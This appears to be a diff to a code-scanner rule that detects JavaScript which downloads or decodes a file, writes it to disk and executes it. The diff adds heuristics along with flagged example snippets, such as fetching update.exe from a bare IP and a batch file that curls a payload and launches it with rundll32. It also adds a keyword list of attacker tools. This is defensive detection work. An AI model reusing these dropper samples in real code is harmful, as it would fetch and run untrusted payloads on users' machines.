@@ -1,5 +1,8 @@
 import { defineRule, step, stepsOf } from '../src/define.js';
 import type { Call, FileContext, Label } from '../src/types.js';
+import { type Deed, deedsOf } from '../src/vocabulary/deeds.js';
+import { languageOf, scriptDeeds } from '../src/vocabulary/scripts.js';
+import { oddRelease } from '../src/vocabulary/services.js';
 
 export default defineRule({
   meta: {
@@ -8,10 +11,14 @@ export default defineRule({
     behaviour: 'execution',
     messages: {
       downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
+      stranger: 'Downloads a file from {address}, writes it as {path} and runs it',
       verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
       decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
+      code: 'Decodes code ({source}), writes it as {path} and runs it',
+      packed: 'Decodes a file that was encoded more than once, writes it as {path} and runs it',
+      script: 'Writes a script as {path} that {says}, and runs it',
     },
-    bits: { downloaded: 10, verified: 1.5, decoded: 9 },
+    bits: { downloaded: 10, stranger: 13.5, verified: 1.5, decoded: 9, code: 11, packed: 13.5, script: 13.5 },
   },
   examples: {
     flags: [
@@ -27,8 +34,28 @@ export default defineRule({
         title: 'a decoded script is',
         code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.bat', Buffer.from(text, 'base64'));\ncp.spawn('cmd', ['/c', 'run.bat']);`,
       },
+      {
+        title: 'a program from a bare address is moved, then started',
+        code: `const fs = require('fs'), cp = require('child_process');\nfetch('http://203.0.113.9/u').then(r => r.arrayBuffer()).then(b => {\n  fs.writeFileSync('u.tmp', Buffer.from(b));\n  fs.renameSync('u.tmp', 'update.exe');\n  cp.spawn('update.exe');\n});`,
+      },
+      {
+        title: 'what was fetched is loaded as a module',
+        code: `const fs = require('fs'), file = require('path').join(__dirname, 'part.js');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(file, text);\n  require(file);\n});`,
+      },
+      {
+        title: 'a batch file that downloads and runs is written and started',
+        code: `const fs = require('fs'), { exec } = require('child_process');\nconst lines = '@echo off\\ncurl -o a.tmp https://stage.invalid/a\\nrename a.tmp a.dll\\nrundll32 a.dll,Run';\nfs.writeFile('a.bat', lines, () => exec('"a.bat"'));`,
+      },
     ],
     passes: [
+      {
+        title: 'a script that builds is written and started',
+        code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.sh', '#!/bin/sh\\nmake all\\n');\ncp.execSync('sh run.sh');`,
+      },
+      {
+        title: 'data that was fetched is loaded',
+        code: `const fs = require('fs');\nfetch('https://a.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync('data.json', text);\n  console.log(require('./data.json'));\n});`,
+      },
       {
         title: 'a download is only stored',
         code: `const fs = require('fs');\nrequire('https').get('https://a.invalid/x.zip', res => res.pipe(fs.createWriteStream('x.zip')));`,
@@ -40,18 +67,19 @@ export default defineRule({
     ],
   },
   file(context) {
-    const runs = context.calls('process');
+    const runs = runsOf(context);
     if (runs.length === 0) return;
     // Whoever compares a digest of what came in had it published beforehand.
     const checks = context.named(/^crypto\.createHash\(\).*\.digest$/).length > 0;
-    for (const { path, label, call } of drops(context)) {
-      const run = runs.find(one => one.args.some(arg => mentions(context, arg, path)));
+    for (const { path, label, call, script } of drops(context)) {
+      const run = runs.find(one => one.args.some(arg => mentions(context, arg, path, one)));
       if (!run) continue;
+      const address = label?.kind === 'remote' ? releaseOf(context, label) : undefined;
       context.report({
-        messageId: label.kind !== 'remote' ? 'decoded' : checks ? 'verified' : 'downloaded',
-        data: { source: label.detail, path: path.shown },
+        messageId: script ? 'script' : messageOf(label as Label, path, address, checks),
+        data: { source: label?.detail ?? '', path: path.shown, address: address ?? '', says: script ?? '' },
         chain: [
-          ...stepsOf(label),
+          ...(label ? stepsOf(label) : []),
           step('transform', `writes it with ${call.name}`, context.file, call.node),
           step('sink', `runs it with ${run.name}`, context.file, run.node),
         ],
@@ -59,6 +87,37 @@ export default defineRule({
     }
   },
 });
+
+function messageOf(label: Label, path: Path, address: string | undefined, checks: boolean): string {
+  if (label.kind !== 'remote' && isTwice(label)) return 'packed';
+  if (label.kind !== 'remote') return path.texts.some(text => SCRIPT.test(text)) ? 'code' : 'decoded';
+  if (checks) return 'verified';
+  return address ? 'stranger' : 'downloaded';
+}
+
+const SCRIPT = /\.(?:[cm]?js|bat|cmd|ps1|vbs|sh|py)$/i;
+
+/** What starts a file: a process, the program that the system opens it with, or loading it as a module. */
+function runsOf(context: FileContext): readonly Call[] {
+  return [
+    ...context.calls('process'),
+    ...context.named(/^(?:open|opn|opener|electron\.shell\.(?:openPath|openItem))(?:\.default)?$/),
+    ...context.calls('load').filter(({ args }) => args[0] && args[0].type !== 'Literal'),
+    ...context
+      .calls('load')
+      .filter(({ args }) => args[0]?.type === 'Literal' && /^\./.test(String((args[0] as { value?: unknown }).value))),
+  ];
+}
+
+/** The odd address that a file was fetched from. */
+function releaseOf(context: FileContext, { origin }: Label): string | undefined {
+  if (origin.file !== context.file) return undefined;
+  const args = (origin.node as { arguments?: readonly Call['node'][] }).arguments ?? [];
+  return args
+    .flatMap(arg => context.textsWithin(arg))
+    .map(oddRelease)
+    .find(Boolean);
+}
 
 interface Path {
   readonly shown: string;
@@ -69,21 +128,41 @@ interface Path {
 
 interface Drop {
   readonly path: Path;
-  readonly label: Label;
+  /** Where what is written came from; undefined when it stands in the code. */
+  readonly label: Label | undefined;
   readonly call: Call;
+  /** What a script that stands in the code does. */
+  readonly script?: string;
 }
 
 /** Unpacking an archive hides nothing; writing out base64 or a cipher's text does. */
 const isForeign = ({ kind, detail }: Label): boolean =>
   kind === 'remote' || kind === 'decrypted' || (kind === 'decoded' && !/^(?:gzip|zlib|brotli)$/.test(detail));
 
+/** What a script written on the spot does that no program needs a file for. */
+const HARMS: ReadonlySet<Deed> = new Set<Deed>([
+  'reverse-shell',
+  'download-run',
+  'exfiltrate',
+  'destroy',
+  'backdoor',
+  'mine',
+]);
+
+/** Words that at least one of the harms takes, to spare reading every text that is written as a script. */
+const PIECES =
+  /curl|wget|powershell|pwsh|invoke-|\biwr\b|\birm\b|certutil|bitsadmin|mshta|rundll32|regsvr32|\/dev\/|\brm\s|\bdel\s|\brd\s|\bnc\b|socket|XMLHTTP|xmrig|stratum|authorized_keys|requests|urlopen|shutil|nslookup|format\s/i;
+
 function drops(context: FileContext): readonly Drop[] {
   const found: Drop[] = [];
   const streams = context.calls('write').filter(({ name }) => name.endsWith('createWriteStream'));
   for (const call of context.calls('write')) {
     const [target, data] = call.args;
-    const label = data && strangest(context.labelsOf(data));
-    if (target && label) found.push({ path: pathOf(context, target), label, call });
+    if (!target || !data) continue;
+    const label = strangest(context.labelsOf(data));
+    const path = pathOf(context, target);
+    const script = harmOf(context, data, path);
+    if (label || script) found.push({ path, label, call, ...(script ? { script } : {}) });
   }
   // `response.pipe(stream)` and `stream.write(chunk)`.
   for (const call of context.named(/\.(?:pipe|write|pipeline)$|^stream\.(?:promises\.)?pipeline$/)) {
@@ -93,12 +172,53 @@ function drops(context: FileContext): readonly Drop[] {
     const stream = streams[0];
     if (label && written && stream?.args[0]) found.push({ path: pathOf(context, stream.args[0]), label, call: stream });
   }
-  return found;
+  // `download(url, folder)` keeps the address's last part as the name.
+  for (const call of context.named(/^(?:download|download\.default|node-wget|wget-improved\.download)$/)) {
+    const [address, folder] = call.args;
+    const names = (address ? context.textsOf(address) : []).map(baseOf).filter(name => name.length > 3);
+    const [label] = context.labelsOf(call.node).filter(({ kind }) => kind === 'remote');
+    if (label && folder) found.push({ path: { shown: names[0] ?? 'a file', texts: names, names: [] }, label, call });
+  }
+  return [...found, ...moved(context, found.slice(0, 100))];
+}
+
+/** The same files under the names they are moved or copied to. */
+function moved(context: FileContext, found: readonly Drop[]): readonly Drop[] {
+  const moves = context.named(
+    /^(?:fs(?:\.promises)?\.(?:rename|copyFile|cp)|fs-extra\.(?:move|copy|rename|copyFile))(?:Sync)?$/,
+  );
+  return moves.slice(0, 100).flatMap((move): readonly Drop[] => {
+    const [from, to] = move.args;
+    const drop = from && to && found.find(({ path }) => mentions(context, from, path));
+    return drop ? [{ ...drop, path: pathOf(context, to as Call['node']) }] : [];
+  });
+}
+
+/** What a text that stands in the code would do as the script it is written to. */
+function harmOf(context: FileContext, data: Call['node'], path: Path): string | undefined {
+  const texts = context.textsOf(data).filter(text => text.length >= 20 && text.length < 50_000 && PIECES.test(text));
+  if (texts.length === 0 || path.texts.some(text => /\.(?:[cm]?[jt]sx?|json|md|html?|ya?ml|txt)$/i.test(text)))
+    return undefined;
+  const languages = path.texts.map(text => languageOf(text, texts[0] as string)).filter(one => one !== undefined);
+  const deeds =
+    languages.length > 0
+      ? texts.slice(0, 4).flatMap(text => scriptDeeds(text, languages[0] as string))
+      : deedsOf(context.commandsOf(data));
+  return deeds.find(({ deed }) => HARMS.has(deed))?.says;
 }
 
 /** What came from another machine says more than how it was packed. */
 function strangest(labels: readonly Label[]): Label | undefined {
-  return labels.find(({ kind }) => kind === 'remote') ?? labels.find(isForeign);
+  return (
+    labels.find(({ kind }) => kind === 'remote') ??
+    labels.find(label => isForeign(label) && isTwice(label)) ??
+    labels.find(isForeign)
+  );
+}
+
+/** Packed in one code and that in another. */
+function isTwice({ kind, through }: Label): boolean {
+  return kind === 'decoded' && through.some(({ says }) => says.startsWith('decodes '));
 }
 
 function pathOf(context: FileContext, node: Call['args'][number]): Path {
@@ -106,13 +226,23 @@ function pathOf(context: FileContext, node: Call['args'][number]): Path {
   return { shown: texts[0] ?? 'a file', texts, names: node.type === 'Identifier' ? [node.name] : [] };
 }
 
+function baseOf(path: string): string {
+  return path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1);
+}
+
 /** True when a command runs the path: its text holds the file's name, or the same variable is in it. */
-function mentions(context: FileContext, node: Call['args'][number], path: Path): boolean {
+function mentions(context: FileContext, node: Call['args'][number], path: Path, run?: Call): boolean {
   const commands = context.textsWithin(node);
-  const bases = path.texts
-    .map(text => text.slice(Math.max(text.lastIndexOf('/'), text.lastIndexOf('\\')) + 1))
-    .filter(base => base.length > 3 && base !== '…');
-  if (bases.some(base => commands.some(command => command.includes(base)))) return true;
+  // Data is loaded, too.
+  if (
+    run &&
+    /^(?:require|import|Module\._load)$/.test(run.name) &&
+    [...commands, ...path.texts].some(text => /\.(?:json|node)$/i.test(text))
+  )
+    return false;
+  const bases = path.texts.map(baseOf).filter(base => base.length > 3 && base !== '…');
+  const whole = path.texts.filter(text => text.length > 3 && !text.includes('…'));
+  if ([...bases, ...whole].some(base => commands.some(command => command.includes(base)))) return true;
   const written = context.file.text.slice(node.start ?? node.range?.[0], node.end ?? node.range?.[1]);
   return (
     written.length < 2_000 && path.names.some(name => new RegExp(`\\b${name.replaceAll('$', '\\$')}\\b`).test(written))
